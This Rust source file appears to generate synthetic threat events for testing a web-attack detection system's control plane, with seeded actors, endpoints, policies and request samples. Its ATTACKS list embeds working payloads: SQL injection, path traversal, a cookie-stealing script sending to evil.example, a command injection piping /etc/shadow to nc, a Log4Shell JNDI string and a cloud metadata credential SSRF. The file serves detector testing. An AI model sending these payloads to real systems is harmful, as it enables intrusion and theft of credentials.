//! Events as attackers make them: few actors and endpoints have most of them, scanners ask for paths that nobody asked for
//! before. The same seed and count give the same events.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use control_plane::{
    clock::EpochMillis,
    store::{EventRow, EventStatus, NewEvent},
};
use fastrand::Rng;
use portcullis_detection::{DetectionType, EventType, PolicySet, Severity};
use portcullis_proto::v1::{self, Header, Match, Sample, ThreatEvent};
use uuid::Uuid;

pub(crate) const DAYS: u64 = 90;
const DAY: u64 = 86_400_000;
const ACTORS: usize = 20_000;
const ENDPOINTS: usize = 3_000;
const HOSTS: usize = 40;
const COUNTRIES: [&str; 12] = ["CN", "US", "RU", "NL", "DE", "BR", "IN", "VN", "FR", "SG", "", "ZA"];
const METHODS: [&str; 5] = ["GET", "POST", "PUT", "DELETE", "PATCH"];
const AGENTS: [&str; 5] = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "python-requests/2.32.3",
    "sqlmap/1.8.6#stable (https://sqlmap.org)",
    "curl/8.8.0",
];
const ATTACKS: [&str; 6] = [
    "' OR 1=1 UNION SELECT username, password FROM users --",
    "../../../../etc/passwd",
    "<script>document.location='//evil.example/?'+document.cookie</script>",
    "; cat /etc/shadow | nc 198.51.100.7 4444",
    "${jndi:ldap://198.51.100.9:1389/a}",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
];

struct Actor {
    address: String,
    country: &'static str,
    /// Attackers come, stay some days, and go.
    days: std::ops::Range<u64>,
}

struct Endpoint {
    method: &'static str,
    host: usize,
    url: String,
}

struct Policy {
    id: String,
    category: String,
    sub_category: String,
    severity: Severity,
}

pub(crate) struct Made {
    rng: Rng,
    actors: Vec<Actor>,
    endpoints: Vec<Endpoint>,
    policies: Vec<Policy>,
    /// Of the first event, in milliseconds.
    pub(crate) began: u64,
    step: u64,
    number: u64,
    count: u64,
}

impl Made {
    /// So many events, the last of them about now.
    pub(crate) fn new(seed: u64, count: u64, until: EpochMillis) -> Self {
        let mut rng = Rng::with_seed(seed);
        let actors = (0..ACTORS).map(|_| actor(&mut rng)).collect();
        let endpoints = (0..ENDPOINTS).map(|number| endpoint(&mut rng, number)).collect();
        let policies = PolicySet::builtin()
            .iter()
            .map(|policy| Policy {
                id: policy.id.to_string(),
                category: policy.info.category.name.clone(),
                sub_category: policy.info.sub_category.clone(),
                severity: policy.info.severity,
            })
            .collect();
        let began = until.millis().unsigned_abs() - DAYS * DAY;
        Self { rng, actors, endpoints, policies, began, step: DAYS * DAY / count.max(1), number: 0, count }
    }

    pub(crate) fn actor(&mut self) -> String {
        let at = skewed(&mut self.rng, self.actors.len(), 3);
        self.actors.get(at).map(|actor| actor.address.clone()).unwrap_or_default()
    }

    pub(crate) fn url(&mut self) -> String {
        let at = skewed(&mut self.rng, self.endpoints.len(), 2);
        self.endpoints.get(at).map(|endpoint| endpoint.url.clone()).unwrap_or_default()
    }

    pub(crate) fn host(&mut self) -> String {
        host(skewed(&mut self.rng, HOSTS, 2))
    }

    pub(crate) fn policy(&mut self) -> String {
        let at = skewed(&mut self.rng, self.policies.len(), 2);
        self.policies.get(at).map(|policy| policy.id.clone()).unwrap_or_default()
    }

    /// A range inside the whole, in epoch seconds, whose bounds are on no round hour.
    pub(crate) fn range(&mut self) -> (u64, u64) {
        let days = [1, 7, 30].get(self.rng.usize(..3)).copied().unwrap_or(1);
        let from = self.began + self.rng.u64(..(DAYS - days) * DAY);
        (from / 1000, (from + days * DAY) / 1000)
    }

    /// The next event as a sensor would send it now.
    pub(crate) fn live(&mut self, sensor: &str) -> ThreatEvent {
        self.event(EpochMillis::now().millis().unsigned_abs(), sensor).detail
    }

    fn event(&mut self, mut at: u64, sensor: &str) -> NewEvent {
        let rng = &mut self.rng;
        // A sensor that was away delivers late.
        if rng.u8(..) < 3 {
            at = at.saturating_sub(rng.u64(..DAY)).max(self.began);
        }
        let day = at.saturating_sub(self.began) / DAY;
        let mut chosen = None;
        for _ in 0..8 {
            let index = skewed(rng, self.actors.len(), 3);
            chosen = self.actors.get(index);
            if chosen.is_some_and(|actor| actor.days.contains(&day)) {
                break;
            }
        }
        let address = chosen.map(|actor| actor.address.clone()).unwrap_or_default();
        let country = chosen.map(|actor| actor.country).unwrap_or_default();
        let index = skewed(rng, self.endpoints.len(), 2);
        let (method, host_at, mut url) = self
            .endpoints
            .get(index)
            .map(|endpoint| (endpoint.method, endpoint.host, endpoint.url.clone()))
            .unwrap_or_default();
        if rng.u8(..) < 3 {
            url = format!("/{:x}/{:x}.php", rng.u32(..), rng.u16(..));
        }
        let host = host(host_at);
        let index = skewed(rng, self.policies.len(), 2);
        let policy = self.policies.get(index);
        let (policy_id, category, sub_category, severity) = policy
            .map(|policy| {
                (policy.id.clone(), policy.category.clone(), policy.sub_category.clone(), policy.severity)
            })
            .unwrap_or_else(|| (String::new(), String::new(), String::new(), Severity::Low));
        let status = match rng.u8(..100) {
            0 | 1 => EventStatus::UnderReview,
            2 | 3 => EventStatus::Ignored,
            _ => EventStatus::Active,
        };
        let attack = rng.choice(ATTACKS).unwrap_or_default();
        let sample = sample(rng, at, &address, method, &host, &url, attack);
        let id = Uuid::from_u128(
            (u128::from(at) << 80) | (7 << 76) | (rng.u128(..) >> 52 & !(3 << 62)) | (2 << 62),
        );
        let successful = rng.u8(..50) == 0;
        let detail = ThreatEvent {
            event_id: id.to_string(),
            ref_id: Uuid::from_u128(rng.u128(..) >> 48 | u128::from(at) << 80).to_string(),
            detected_at_ms: at,
            actor: address.clone(),
            policy_id: policy_id.clone(),
            category: category.clone(),
            sub_category: sub_category.clone(),
            severity: match severity {
                Severity::Low => v1::Severity::Low,
                Severity::Medium => v1::Severity::Medium,
                Severity::High => v1::Severity::High,
                Severity::Critical => v1::Severity::Critical,
            }
            .into(),
            event_type: v1::EventType::Single.into(),
            detection_type: v1::DetectionType::RuleBased.into(),
            method: method.to_owned(),
            url: url.clone(),
            host: host.clone(),
            status_code: sample.status_code,
            successful_exploit: successful.then(|| v1::SuccessEvidence { kind: "leak".into(), at: None }),
            matched: vec![Match {
                location: "query.q".into(),
                start: 0,
                end: 20,
                phrase: attack.chars().take(20).collect(),
                detector: "grammar".into(),
            }],
            samples: vec![sample],
            match_count: 1,
            ..ThreatEvent::default()
        };
        let row = EventRow {
            id,
            ref_id: detail.ref_id.clone(),
            detected_at: EpochMillis::from_millis(i64::try_from(at).unwrap_or(0)),
            actor: address,
            country: country.to_owned(),
            policy_id,
            category,
            sub_category,
            severity,
            event_type: EventType::Single,
            detection_type: DetectionType::RuleBased,
            method: method.to_owned(),
            url,
            host,
            collection_id: i64::try_from(host_at).unwrap_or(0),
            sensor_id: sensor.to_owned(),
            successful,
            status,
        };
        NewEvent { row, detail }
    }
}

impl Iterator for Made {
    type Item = NewEvent;

    fn next(&mut self) -> Option<NewEvent> {
        (self.number < self.count).then(|| {
            let at = self.began + self.number * self.step + self.rng.u64(..self.step.max(1));
            self.number += 1;
            self.event(at, "sensor-1")
        })
    }
}

/// The first of `count` are the most frequent: the higher the power, the more so.
fn skewed(rng: &mut Rng, count: usize, power: i32) -> usize {
    let share = rng.f64().powi(power);
    // Below `count`, since the share is below one.
    #[expect(
        clippy::cast_possible_truncation,
        clippy::cast_sign_loss,
        clippy::cast_precision_loss,
        reason = "a share of a small count"
    )]
    let at = (share * count as f64) as usize;
    at
}

fn actor(rng: &mut Rng) -> Actor {
    let address = if rng.u8(..5) == 0 {
        IpAddr::from(Ipv6Addr::from(0x2001_0db8 << 96 | u128::from(rng.u64(..))))
    } else {
        IpAddr::from(Ipv4Addr::from(rng.u32(0x0100_0000..0xdf00_0000)))
    };
    let stays = [1, 3, 10, DAYS].get(rng.usize(..4)).copied().unwrap_or(1);
    let first = rng.u64(..=DAYS - stays);
    let country = rng.choice(COUNTRIES).unwrap_or_default();
    Actor { address: address.to_string(), country, days: first..first + stays }
}

fn endpoint(rng: &mut Rng, number: usize) -> Endpoint {
    let nouns = ["orders", "users", "carts", "payments", "search", "login", "files", "reports"];
    let noun = rng.choice(nouns).unwrap_or_default();
    Endpoint {
        method: METHODS.get(skewed(rng, METHODS.len(), 2)).copied().unwrap_or_default(),
        host: skewed(rng, HOSTS, 2),
        url: format!("/api/v{}/{noun}/{number}/items", rng.u8(1..4)),
    }
}

fn host(number: usize) -> String {
    format!("shop-{number}.example.com")
}

fn sample(rng: &mut Rng, at: u64, actor: &str, method: &str, host: &str, url: &str, attack: &str) -> Sample {
    let header = |name: &str, value: &str| Header { name: name.into(), value: value.into() };
    let agent = rng.choice(AGENTS).unwrap_or_default();
    let token: String = (0..32).map(|_| rng.alphanumeric()).collect();
    let (order, user, price) = (rng.u32(..1_000_000), rng.u16(..), rng.u16(..10_000));
    Sample {
        time_ms: at,
        source_ip: actor.to_owned(),
        source_port: u32::from(rng.u16(1024..)),
        destination_ip: "10.0.0.12".into(),
        destination_port: 443,
        protocol: "HTTP/1.1".into(),
        method: method.to_owned(),
        path: format!("{url}?q={attack}&page={}", rng.u8(..)),
        request_headers: vec![
            header("Host", host),
            header("User-Agent", agent),
            header("Accept", "application/json, text/plain, */*"),
            header("Accept-Language", "en-US,en;q=0.9"),
            header("Accept-Encoding", "gzip, deflate, br"),
            header("Content-Type", "application/json"),
            header("Cookie", &format!("session={token}; theme=dark")),
            header("Authorization", "Bearer ***"),
            header("Connection", "keep-alive"),
        ],
        request_payload: format!(
            r#"{{"order":{order},"user":"user-{user}","note":"{attack}","items":[{{"sku":"A-{}","qty":{}}}]}}"#,
            rng.u16(..),
            rng.u8(1..9)
        )
        .into_bytes(),
        status_code: [200, 403, 404, 500].get(rng.usize(..4)).copied().unwrap_or(200),
        reason: "OK".into(),
        response_headers: vec![
            header("Content-Type", "application/json; charset=utf-8"),
            header("Date", "Thu, 06 Aug 2026 10:11:12 GMT"),
            header("Server", "nginx/1.24.0"),
            header("X-Request-Id", &format!("{:016x}", rng.u64(..))),
            header("Cache-Control", "no-store"),
        ],
        response_payload: format!(
            r#"{{"id":{order},"status":"accepted","customer":{{"name":"user-{user}","tier":"gold"}},"total":{price},"currency":"EUR","links":{{"self":"{url}/{order}"}}}}"#
        )
        .into_bytes(),
        ..Sample::default()
    }
}
